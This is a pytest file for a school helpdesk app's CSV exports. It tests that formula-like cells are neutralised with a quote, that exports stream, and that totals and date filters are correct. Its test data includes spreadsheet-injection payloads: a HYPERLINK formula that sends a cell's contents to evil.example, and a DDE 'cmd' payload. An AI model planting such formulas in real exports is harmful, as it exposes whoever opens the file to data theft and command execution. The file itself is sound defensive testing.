"""CSV: cells a spreadsheet would run are neutralised, exports stream and hold the record."""

from __future__ import annotations

import csv
import io

import pytest

from kit.reports.csv_safe import safe_cell, stream_rows


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "  =1+1",
    ],
)
def test_formula_like_text_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Printer jammed", "26-0001", "a=b", "email@school", ""])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(None) == ""


def test_streamed_rows_start_with_a_bom_and_escape_every_cell():
    lines = list(stream_rows(["Summary"], [["=cmd|'/C calc'!A0"], ["fine"]]))
    assert lines[0] == "\ufeff"
    rows = list(csv.reader(io.StringIO("".join(lines[1:]))))
    assert rows == [["Summary"], ["'=cmd|'/C calc'!A0"], ["fine"]]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def test_calls_export_neutralises_a_formula_in_a_summary(login, client, make_call):
    make_call(summary='=HYPERLINK("http://evil.example")', caller_name="@attacker")
    login("leader")
    rows = _rows(client.get("/reports/export/calls.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("Summary")] == '\'=HYPERLINK("http://evil.example")'
    assert row[header.index("Caller")] == "'@attacker"


def test_calls_export_streams_rather_than_building_the_file(login, client, make_call):
    make_call()
    login("admin")
    response = client.get("/reports/export/calls.csv")
    assert response.is_streamed
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "private, no-store"


def test_calls_export_has_history_summary_and_time_totals(login, client, make_call, db, users):
    call_id = make_call(summary="Projector dead")
    db["time_entries"].insert(
        {
            "call_id": call_id,
            "user_id": users["technician"],
            "worked_on": "2026-11-23",
            "minutes": 25,
            "note": "",
            "created_at": "2026-11-23 10:00:00",
        }
    )
    login("leader")
    header, row = _rows(client.get("/reports/export/calls.csv"))[:2]
    values = dict(zip(header, row, strict=True))
    assert values["Ref"] == "26-0001"
    assert values["History entries"] == "1"
    assert values["Last history entry"] == "logged"
    assert values["Minutes recorded"] == "25"
    assert values["Category"] == "Printer or copier"


def test_calls_export_takes_a_date_range(login, client, make_call, clock):
    make_call(summary="Before")
    clock.set(clock().replace(day=25))
    make_call(summary="Inside")
    login("leader")
    rows = _rows(client.get("/reports/export/calls.csv?date_from=2026-11-24&date_to=2026-11-30"))
    assert [r[rows[0].index("Summary")] for r in rows[1:]] == ["Inside"]


def test_calls_export_with_a_bad_date_is_refused_with_a_message(login, client):
    login("leader")
    response = client.get("/reports/export/calls.csv?date_from=31/02/2026")
    assert response.status_code == 400
    assert "is not a date" in response.get_data(as_text=True)


def test_equipment_and_people_exports_list_the_register(login, client, db):
    db["people"].insert({"name": "-Minus Person", "email": "m@school.example"})
    db["locations"].insert({"site": "Main", "building": "Old", "room": "R1"})
    login("leader")
    people = _rows(client.get("/reports/export/people.csv"))
    assert people[1][0] == "'-Minus Person"
    locations = _rows(client.get("/reports/export/locations.csv"))
    assert locations[1] == ["Main", "Old", "R1", "no"]
    assert _rows(client.get("/reports/export/equipment.csv"))[0][0] == "Asset tag"


def test_articles_export_counts_calls_solved(login, client, db):
    db["articles"].insert(
        {
            "slug": "jam",
            "title": "+Paper jam",
            "audience": "staff",
            "status": "published",
            "revision": 1,
            "created_at": "2026-11-01",
            "updated_at": "2026-11-01",
        }
    )
    login("leader")
    rows = _rows(client.get("/reports/export/articles.csv"))
    assert rows[1][1] == "'+Paper jam"
    assert rows[1][-1] == "0"
